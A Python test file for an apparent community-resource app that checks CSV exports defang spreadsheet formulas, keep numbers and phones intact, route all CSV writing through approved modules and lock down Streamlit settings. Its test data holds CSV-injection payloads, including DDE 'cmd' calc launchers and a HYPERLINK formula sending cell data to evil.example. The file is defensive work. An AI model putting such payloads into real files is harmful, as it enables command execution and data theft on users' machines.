"""What a spreadsheet would take for a formula is text in every CSV that leaves the house."""

import ast
import csv
import io
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from outreach.cli.main import app
from outreach.pages import tables
from outreach.reports import exports
from outreach.reports.exports import csv_bytes, harmless

PACKAGE = Path(exports.__file__).parent.parent
FORMULAS = [
    "=1+1", "=cmd|'/C calc'!A0", "+SUM(A1)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1",
    "\n=1", "  =1+1", "＝1+1", '=HYPERLINK("http://evil.example/?"&A1)', "-A1", "+A1",
]  # fmt: skip
HARMLESS = ["-73.75", "-1", "+1 (518) 555-0100", "-1.5e-3", "1 Elm St", "a=b", "", "-12,345.6"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_text_in_cells_and_headers(text):
    made = csv_bytes(pd.DataFrame({text: [text, "Elm"], "n": [-1.5, 2]}), encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(made.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["'" + text, "n"]
    assert rows[1] == ["'" + text, "-1.5"]


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_below_zero_and_phones_stay_what_they_are(text):
    assert harmless(text) == text


def test_a_quarantine_file_is_harmless_with_its_header(tmp_path):
    path = tmp_path / "quarantine.csv"
    with path.open("w", newline="", encoding="utf-8") as file:
        csv.writer(file).writerows([["=head", "lon"], ["@SUM(A1)", "-73.75"]])
    rows = list(csv.reader(io.StringIO(tables.safe_file(path).decode("utf-8-sig"))))
    assert rows == [["'=head", "lon"], ["'@SUM(A1)", "-73.75"]]


def test_directories_hours_and_rows_set_aside_are_harmless(canary_city, tmp_path):
    told = tmp_path / "places.csv"
    pd.DataFrame({
        "name": ["=cmd|' /C calc'!A0", "@Pantry", "No place", "Elm Pantry"],
        "kind": "food_pantry", "lat": [42.65, 42.66, None, 42.67],
        "lon": [-73.75, -73.76, None, -73.77], "phone": "+1 518 555 0100",
        "hours": ["=1+1", "Mo-Fr 09:00-17:00", "", "+A1"], "=note": "@x",
    }).to_csv(told, index=False)  # fmt: skip
    hours, package = tmp_path / "hours.csv", tmp_path / "directory.zip"
    here = ["--city", str(canary_city)]
    run = CliRunner().invoke
    taken = run(app, ["resources", "import", str(told), *here, "--hours-table", str(hours)])
    assert taken.exit_code == 0, taken.output
    given = run(app, ["resources", "export", str(package), *here])
    assert given.exit_code == 0, given.output
    files = {hours.name: hours.read_bytes()}
    files |= {path.name: path.read_bytes() for path in canary_city.rglob("*.csv")}
    with zipfile.ZipFile(package) as packed:
        files |= {n: packed.read(n) for n in packed.namelist() if n.endswith(".csv")}
    seen = set()
    for name, content in files.items():
        for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")):
            for cell in row:
                assert harmless(cell) == cell, (name, cell)
                seen.add(cell)
    assert {"'=cmd|' /C calc'!A0", "'@Pantry"} <= seen
    assert any(cell.endswith("518 555 0100") and cell.startswith("+") for cell in seen)
    for path in (hours, package, *canary_city.rglob("*.csv")):
        assert path.stat().st_mode & 0o077 == 0, path


# Who writes CSV by other ways, and why that is no export.
OWN = {
    "reports/exports.py": "csv_bytes itself",
    "pages/tables.py": "safe_file: every cell goes through harmless",
    "store/tables.py": "the city folder's own tables, read back",
    "resources/directory/hsds.py": "the directory as it is kept; exports go through harmless first",
    "ingest/delimited.py": "rows set aside, verbatim; handed out by safe_file",
    "store/batches.py": "the same",
    "pipeline/invented.py": "invented exports, as a dispatch system writes them",
    "pipeline/old_directory.py": "a file for our own reader, gone afterwards",
    "simulate/export.py": "invented exports",
}
WRITERS = {"to_csv", "writer", "DictWriter", "CSVWriter", "write_csv", "to_excel"}


def test_no_other_way_writes_csv():
    found = set()
    for path in PACKAGE.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call) and getattr(node.func, "attr", "") in WRITERS:
                found.add(path.relative_to(PACKAGE).as_posix())
    assert found == set(OWN)


def test_tables_on_screen_are_not_exported_past_our_buttons():
    import tomllib

    settings = tomllib.loads((PACKAGE.parent / ".streamlit" / "config.toml").read_text())
    assert settings["client"]["disableDataExport"] is True
    assert settings["client"]["showErrorDetails"] == "none"
    assert settings["server"]["enableXsrfProtection"] is True
    assert settings["server"]["enableCORS"] is True
    assert settings["server"]["maxUploadSize"] <= 200
    assert settings["browser"]["gatherUsageStats"] is False
    assert settings["server"]["address"] == "localhost"
